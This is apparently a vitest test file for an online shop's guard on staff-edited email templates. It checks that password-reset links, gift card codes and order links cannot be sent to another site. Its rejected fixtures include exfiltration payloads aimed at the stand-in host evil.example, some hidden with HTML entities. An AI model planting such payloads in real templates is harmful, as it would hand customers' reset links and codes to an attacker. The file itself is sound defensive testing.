// What only the reader of a mail may know stays in it: words of staff cannot send it to another site (reliability R20).
import { describe, expect, test } from 'vitest';
import { listAssets } from '#kernel/assets.ts';
import { gather } from '#kernel/gather.ts';
import { capabilities } from '../../src/app/capabilities.ts';
import { templateHtml } from '../../src/platform/mail/html-template.ts';
import { shippedTemplate } from '../../src/platform/mail/template.ts';
import { requireGuarded } from '../../src/platform/mail/templates/guarded-places.ts';
import { cleanHtml } from '../../src/platform/rich-text/index.ts';

const { mails } = gather(capabilities);
const found = (key: string) => {
  const mail = mails.find((one) => one.key === key);
  if (!mail) throw new Error(`no mail ${key}`);
  return mail;
};

async function judge(key: string, html: string, text: string | null = null): Promise<string> {
  try {
    requireGuarded(found(key), { html: await cleanHtml(html), text });
    return 'taken';
  } catch (error) {
    return JSON.stringify((error as { details?: unknown }).details ?? String(error));
  }
}

describe('words that would send a secret elsewhere', () => {
  test.each([
    ['password_reset', '<p><a href="https://evil.example/?u={reset_url}">Choose</a></p>'],
    ['password_reset', '<p><a href="https:&#47;&#47;evil.example/?u=&#123;reset_url&#125;">Choose</a></p>'],
    ['password_reset', '<p><a href="{store_url}.evil.example/{reset_url}">Choose</a></p>'],
    ['password_reset', '<p><a href="{reset_url}{reset_url}">Choose</a></p>'],
    ['password_reset', '<p><img src="https://evil.example/{reset_url}" alt="" /></p>'],
    ['password_reset', '<p><img src="{reset_url}" alt="" /></p>'],
    ['password_reset', '<p>https://evil.example/?u={reset_url}</p>'],
    ['password_reset', '<p>https://evil.example/?u=<b>{reset_url}</b></p>'],
    ['password_reset', '<p>{customer_name}{reset_url}</p>'],
    ['gift_card_delivery', '<p><img src="https://evil.example/{code}" alt="" /></p>'],
    ['gift_card_delivery', '<p><a href="{code}">Spend</a></p>'],
    ['gift_card_delivery', '<p>evil.example/{code}</p>'],
    ['order_confirmation', '<p><a href="https://evil.example/?u={order_url}">Look</a></p>'],
    ['order_confirmation', '<p><a title="{items_html}" href="https://evil.example">Look</a></p>'],
  ])('%s: %s', async (key, html) => {
    expect(await judge(key, html)).toContain('body_html');
  });

  test('the text for those who read no HTML is judged, too', async () => {
    expect(
      await judge('password_reset', '<p>{reset_url}</p>', 'Go to https://evil.example/?{reset_url}'),
    ).toContain('body_text');
  });
});

describe('words as shops need them', () => {
  test.each([
    ['password_reset', '<p><a href="{reset_url}">Choose a new password</a></p>'],
    ['password_reset', '<p>Open <a title="A page of the shop" href="{reset_url}">{reset_url}</a>.</p>'],
    ['password_reset', '<p>The link:<br />{reset_url}</p><p>({reset_url}), "{reset_url}"</p>'],
    ['password_reset', '<p><a href="{store_url}/shop">https://docs.example.com/a</a></p><p>{reset_url}</p>'],
    ['gift_card_delivery', '<p>Code:{code} <img src="{logo_url}" alt="" /></p>'],
    ['order_confirmation', '<p><a href="https://carrier.example/?o={order_number}">Follow</a></p>'],
  ])('%s: %s', async (key, html) => {
    expect(await judge(key, html)).toBe('taken');
  });

  test('those of every mail in every language are so', () => {
    const files = listAssets('templates/mail').filter((file) => file.endsWith('.md'));
    let judged = 0;
    for (const mail of mails)
      for (const { language } of languagesOf(files, mail.key)) {
        const template = shippedTemplate(mail.key, language, undefined);
        if (!template) throw new Error(`${mail.key} has no words in ${language}`);
        requireGuarded(mail, { html: templateHtml(template), text: null });
        judged += 1;
      }
    expect(judged).toBe(files.length);
  });
});

const languagesOf = (files: readonly string[], key: string) =>
  files
    .filter((file) => file.startsWith(`templates/mail/${key}.`))
    .map((file) => ({ language: file.slice(-5, -3) }));
